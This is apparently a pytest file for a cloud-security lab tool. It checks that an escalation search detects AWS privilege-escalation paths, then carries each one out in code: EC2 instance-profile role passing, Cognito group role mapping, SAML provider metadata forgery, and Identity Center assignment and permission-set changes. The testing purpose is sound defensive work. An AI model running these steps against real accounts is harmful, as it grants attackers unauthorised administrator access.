"""Ways through instances, user pools, SAML providers, and Identity Center, followed to the end with calls."""

from __future__ import annotations

import json
from typing import Any

import boto3
import pytest
from botocore import UNSIGNED
from botocore.config import Config

from labs_helpers.cloud import Cloud, escalations
from labs_helpers.cloud.actors.saml_provider import SIGN_IN, SamlProvider
from tests.cloud.audit.test_own_changes import ADMINISTRATOR, HOME, _administers
from tests.cloud.escalation_climbers import allow, document, trust
from tests.cloud.services.sso_admin.conftest import Center
from tests.clouds import make_user, session_of

IMAGE = "ami-03cf127a"
PASSWORD = "Correct-horse-1"  # a made-up user's


def eve(cloud: Cloud, *actions: str) -> boto3.Session:
    """A user who can do these things only."""
    return make_user(cloud, "eve", json.dumps(document(allow(list(actions)))))


def told(cloud: Cloud) -> set[str]:
    """The ways that the search finds for eve, for certain, under conditions, or as a possibility."""
    found = escalations(cloud)
    steps = [
        step
        for ways in (found.ways, found.ways_if, found.if_running)
        for arn, listed in ways.items()
        if arn.endswith("user/eve")
        for step in (listed if isinstance(listed, tuple) else (listed,))
    ]
    return {step.path.id for step in steps}


def boss(principal: Any, action: Any = "sts:AssumeRole", **more: Any) -> str:
    """A role with every permission, for the principal that its trust policy names."""
    iam = boto3.client("iam")
    text = json.dumps(trust(principal, action, **more))
    arn: str = iam.create_role(RoleName="boss", AssumeRolePolicyDocument=text)["Role"]["Arn"]
    iam.attach_role_policy(RoleName="boss", PolicyArn=ADMINISTRATOR)
    return arn


PROFILES = {
    "ec2-001": ("ec2:RunInstances",),
    "ec2-profile": ("ec2:AssociateIamInstanceProfile",),
    "ec2-replace": ("ec2:ReplaceIamInstanceProfileAssociation",),
}


@pytest.mark.parametrize("id", PROFILES)
def test_code_on_an_instance_has_the_role_of_its_profile(cloud, id):
    iam, ec2 = boto3.client("iam"), boto3.client("ec2")
    boss({"Service": "ec2.amazonaws.com"})
    for name in ("boss", "weak"):
        iam.create_instance_profile(InstanceProfileName=name)
    iam.add_role_to_instance_profile(InstanceProfileName="boss", RoleName="boss")
    climber = eve(cloud, "iam:PassRole", *PROFILES[id]).client("ec2")
    profile = {"IamInstanceProfile": {"Name": "boss"}}
    assert id in told(cloud)
    if id == "ec2-001":
        made = climber.run_instances(ImageId=IMAGE, MinCount=1, MaxCount=1, **profile)["Instances"][0]
        instance = made["InstanceId"]
    else:
        instance = ec2.run_instances(ImageId=IMAGE, MinCount=1, MaxCount=1)["Instances"][0]["InstanceId"]
    if id == "ec2-profile":
        climber.associate_iam_instance_profile(InstanceId=instance, **profile)
    if id == "ec2-replace":
        iam.create_role(
            RoleName="weak", AssumeRolePolicyDocument=json.dumps(trust({"Service": "ec2.amazonaws.com"}))
        )
        iam.add_role_to_instance_profile(InstanceProfileName="weak", RoleName="weak")
        weak = ec2.associate_iam_instance_profile(InstanceId=instance, IamInstanceProfile={"Name": "weak"})
        assert not _administers(cloud.instance(instance).session().client("iam"))
        association = weak["IamInstanceProfileAssociation"]["AssociationId"]
        climber.replace_iam_instance_profile_association(AssociationId=association, **profile)
    assert _administers(cloud.instance(instance).session().client("iam"))


GROUPS = {
    "cognito-group": ("cognito-idp:CreateGroup", "cognito-idp:AdminAddUserToGroup"),
    "cognito-group-role": ("cognito-idp:UpdateGroup",),
}


@pytest.mark.parametrize("id", GROUPS)
def test_the_role_of_a_group_is_its_members_role_in_an_identity_pool(cloud, id):
    idp, pools = boto3.client("cognito-idp"), boto3.client("cognito-identity")
    pool = idp.create_user_pool(PoolName="staff")["UserPool"]["Id"]
    client = idp.create_user_pool_client(
        UserPoolId=pool, ClientName="c", ExplicitAuthFlows=["ALLOW_USER_PASSWORD_AUTH"]
    )["UserPoolClient"]["ClientId"]
    idp.admin_create_user(UserPoolId=pool, Username="eve", MessageAction="SUPPRESS")
    idp.admin_set_user_password(UserPoolId=pool, Username="eve", Password=PASSWORD, Permanent=True)
    provider = f"cognito-idp.us-east-1.amazonaws.com/{pool}"
    linked = {"ProviderName": provider, "ClientId": client}
    identities = pools.create_identity_pool(
        IdentityPoolName="p", AllowUnauthenticatedIdentities=False, CognitoIdentityProviders=[linked]
    )["IdentityPoolId"]
    by_token = {f"{provider}:{client}": {"Type": "Token", "AmbiguousRoleResolution": "Deny"}}
    pools.set_identity_pool_roles(IdentityPoolId=identities, Roles={}, RoleMappings=by_token)
    only = {"StringEquals": {"cognito-identity.amazonaws.com:aud": identities}}
    federated = {"Federated": "cognito-identity.amazonaws.com"}
    role = boss(federated, ["sts:AssumeRoleWithWebIdentity", "sts:TagSession"], Condition=only)
    if id == "cognito-group-role":
        idp.create_group(UserPoolId=pool, GroupName="readers")
        idp.admin_add_user_to_group(UserPoolId=pool, GroupName="readers", Username="eve")
    climber = eve(cloud, "iam:PassRole", *GROUPS[id]).client("cognito-idp")
    assert id in told(cloud)
    if id == "cognito-group-role":
        climber.update_group(UserPoolId=pool, GroupName="readers", RoleArn=role)
    else:
        climber.create_group(UserPoolId=pool, GroupName="chiefs", RoleArn=role)
        climber.admin_add_user_to_group(UserPoolId=pool, GroupName="chiefs", Username="eve")
    token = idp.initiate_auth(
        ClientId=client,
        AuthFlow="USER_PASSWORD_AUTH",
        AuthParameters={"USERNAME": "eve", "PASSWORD": PASSWORD},
    )["AuthenticationResult"]["IdToken"]
    anyone, login = (
        boto3.client("cognito-identity", config=Config(signature_version=UNSIGNED)),
        {provider: token},
    )
    identity = anyone.get_id(IdentityPoolId=identities, Logins=login)["IdentityId"]
    keys = anyone.get_credentials_for_identity(IdentityId=identity, Logins=login)["Credentials"]
    session = boto3.Session(keys["AccessKeyId"], keys["SecretKey"], keys["SessionToken"])
    assert _administers(session.client("iam", region_name="us-east-1"))


@pytest.mark.parametrize("id", ["saml-provider"])
def test_whoever_replaces_a_providers_metadata_signs_in_as_anyone(cloud, id):
    provider = f"arn:aws:iam::{HOME}:saml-provider/corp"
    genuine = SamlProvider(cloud, "https://idp.example.com/saml")
    boto3.client("iam").create_saml_provider(Name="corp", SAMLMetadataDocument=genuine.metadata)
    role = boss(
        {"Federated": provider}, "sts:AssumeRoleWithSAML", Condition={"StringEquals": {"SAML:aud": SIGN_IN}}
    )
    climber = eve(cloud, "iam:UpdateSAMLProvider").client("iam")
    assert id in told(cloud)
    forged = SamlProvider(cloud, "https://idp.example.com/saml")
    climber.update_saml_provider(SAMLProviderArn=provider, SAMLMetadataDocument=forged.metadata)
    answer = boto3.client("sts", config=Config(signature_version=UNSIGNED)).assume_role_with_saml(
        RoleArn=role, PrincipalArn=provider, SAMLAssertion=forged.response("chief", role, provider)
    )
    assert _administers(session_of(answer).client("iam"))


CENTER = {
    "sso-assign": ("sso:CreateAccountAssignment",),
    "sso-boundary": ("sso:DeletePermissionsBoundaryFromPermissionSet",),
    "sso-group": ("identitystore:CreateGroupMembership",),
    "sso-customer": ("sso:AttachCustomerManagedPolicyReferenceToPermissionSet", "iam:CreatePolicy"),
}


@pytest.mark.parametrize("id", CENTER)
def test_whoever_changes_assignments_or_permission_sets_gets_their_permissions(cloud, id):
    center = Center(cloud)
    user, of = center.user("eve"), {"InstanceArn": center.arn}
    account = cloud.home if id == "sso-customer" else center.org.member()
    everything = center.permission_set("Boss", "AdministratorAccess")
    reader = center.permission_set("Reader")
    climber = eve(cloud, *CENTER[id])
    admin = climber.client("sso-admin")
    assert id in told(cloud)
    if id == "sso-assign":
        admin.create_account_assignment(
            **of, PermissionSetArn=everything, TargetId=account, TargetType="AWS_ACCOUNT", PrincipalType="USER",
            PrincipalId=user,
        )  # fmt: skip
    elif id == "sso-group":
        chiefs = center.group("chiefs")
        center.assign(account, everything, chiefs, "GROUP")
        store = climber.client("identitystore")
        store.create_group_membership(
            IdentityStoreId=center.store_id, GroupId=chiefs, MemberId={"UserId": user}
        )
    elif id == "sso-boundary":
        limit = {"ManagedPolicyArn": "arn:aws:iam::aws:policy/ReadOnlyAccess"}
        center.admin.put_permissions_boundary_to_permission_set(
            **of, PermissionSetArn=everything, PermissionsBoundary=limit
        )
        center.assign(account, everything, user)
        admin.delete_permissions_boundary_from_permission_set(**of, PermissionSetArn=everything)
        center.provision(everything)
    else:
        policy = json.dumps(document(allow("*")))
        climber.client("iam").create_policy(PolicyName="all", PolicyDocument=policy)
        center.assign(account, reader, user)
        admin.attach_customer_managed_policy_reference_to_permission_set(
            **of, PermissionSetArn=reader, CustomerManagedPolicyReference={"Name": "all", "Path": "/"}
        )
        center.provision(reader)
    assert _administers(signed_in(cloud, center, account).client("iam"))


def signed_in(cloud: Cloud, center: Center, account: str) -> boto3.Session:
    """A session of eve's only role in an account, through the access portal."""
    oidc = boto3.client("sso-oidc")
    app = oidc.register_client(clientName="cli", clientType="public")
    of_app = {"clientId": app["clientId"], "clientSecret": app["clientSecret"]}
    device = oidc.start_device_authorization(**of_app, startUrl=center.console.start_url)
    center.console.approve(device["userCode"], "eve")
    token = oidc.create_token(
        **of_app, grantType="urn:ietf:params:oauth:grant-type:device_code", deviceCode=device["deviceCode"]
    )["accessToken"]
    portal = boto3.client("sso")
    (role,) = portal.list_account_roles(accessToken=token, accountId=account)["roleList"]
    keys = portal.get_role_credentials(accessToken=token, accountId=account, roleName=role["roleName"])[
        "roleCredentials"
    ]
    return boto3.Session(keys["accessKeyId"], keys["secretAccessKey"], keys["sessionToken"], "us-east-1")
